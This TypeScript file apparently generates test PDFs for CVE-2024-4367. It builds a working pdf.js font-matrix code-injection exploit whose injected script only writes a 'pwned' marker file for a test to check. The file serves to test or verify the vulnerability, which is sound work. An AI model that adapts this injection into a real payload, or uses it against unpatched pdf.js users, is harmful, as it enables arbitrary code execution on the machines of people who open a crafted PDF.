import { PDFDocument, PDFHexString, PDFName, PDFString, beginText, endText, moveText, setFontAndSize, showText } from 'pdf-lib';
import { type Charstring, type1Program } from './type1.js';

/**
 * CVE-2024-4367 (pdf.js < 4.2.67, GHSA-wgrm-67xf-hhpq): pdf.js copied a font dictionary's
 * /FontMatrix into the glyph drawing commands unchecked, and with isEvalSupported (the default)
 * compiled those commands to JavaScript as `c.transform(<matrix joined by ",">);`. A string as
 * the last matrix element therefore closes that call and runs whatever follows it.
 */

/** What the injected JavaScript does: create `markerPath`, nothing else. */
function markerScript(markerPath: string): string {
  // `require` in CommonJS hosts and old bundles, process.getBuiltinModule in Node ESM (>= 20.16).
  const fs = `(typeof require === "function" ? require("fs") : process.getBuiltinModule("fs"))`;
  return `${fs}.writeFileSync(${JSON.stringify(markerPath)}, "pwned");`;
}

/**
 * The sixth /FontMatrix element as decoded from the PDF: a translation of 1, the end of the
 * `c.transform(` call, the script, and `//` to comment out the `);` that pdf.js appended.
 */
export function fontMatrixInjection(markerPath: string): string {
  return `1);\n${markerScript(markerPath)}\n//`;
}

/** PDF literal-string escaping (PDF 32000 7.3.4.2): pdf-lib's PDFString.of writes its input raw. */
function pdfLiteral(text: string): string {
  return text.replace(/[\\()]/g, (char) => `\\${char}`).replace(/\n/g, '\\n').replace(/\r/g, '\\r');
}

const FONT_NAME = 'HostileMatrix';
const ADVANCE = 600;
/** A filled box a glyph: the shapes do not matter, only that the glyphs exist and get drawn. */
const box = (width: number, height: number): Charstring => [0, ADVANCE, 'hsbw', 50, 0, 'rmoveto', width, 0, 'rlineto', 0, height, 'rlineto', -width, 0, 'rlineto', 'closepath', 'endchar'];
const GLYPHS = { '.notdef': [0, ADVANCE, 'hsbw', 'endchar'], A: box(500, 700), B: box(400, 600), C: box(300, 500) } satisfies Record<string, Charstring>;
export const payloadText = 'ABC';

/**
 * One page showing "ABC" in an embedded Type 1 font (FontFile) whose font dictionary carries the
 * CVE-2024-4367 injection in /FontMatrix. Harmless by design: if some pdf.js ever evaluates it, it
 * only writes "pwned" to `markerPath`, which a test then looks for.
 */
export async function fontMatrixPayload(markerPath: string): Promise<Uint8Array> {
  const pdf = await PDFDocument.create();
  const { context } = pdf;
  const program = type1Program(FONT_NAME, GLYPHS);
  const fontFile = context.register(
    context.stream(program.bytes, { Length1: program.length1, Length2: program.length2, Length3: program.length3 }),
  );
  const descriptor = context.register(
    context.obj({
      Type: 'FontDescriptor',
      FontName: FONT_NAME,
      Flags: 32, // Nonsymbolic: standard Latin glyph names.
      FontBBox: [0, -10, 600, 710],
      ItalicAngle: 0,
      Ascent: 710,
      Descent: -10,
      CapHeight: 700,
      StemV: 80,
      FontFile: fontFile,
    }),
  );
  const font = context.register(
    context.obj({
      Type: 'Font',
      Subtype: 'Type1',
      BaseFont: FONT_NAME,
      FirstChar: 65,
      LastChar: 67,
      Widths: [ADVANCE, ADVANCE, ADVANCE],
      FontMatrix: [0.001, 0, 0, 0.001, 0, PDFString.of(pdfLiteral(fontMatrixInjection(markerPath)))],
      FontDescriptor: descriptor,
    }),
  );
  const page = pdf.addPage([595.28, 841.89]);
  page.node.setFontDictionary(PDFName.of('F1'), font);
  page.pushOperators(beginText(), setFontAndSize('F1', 48), moveText(72, 700), showText(PDFHexString.of(Buffer.from(payloadText, 'latin1').toString('hex'))), endText());
  return pdf.save({ useObjectStreams: false });
}
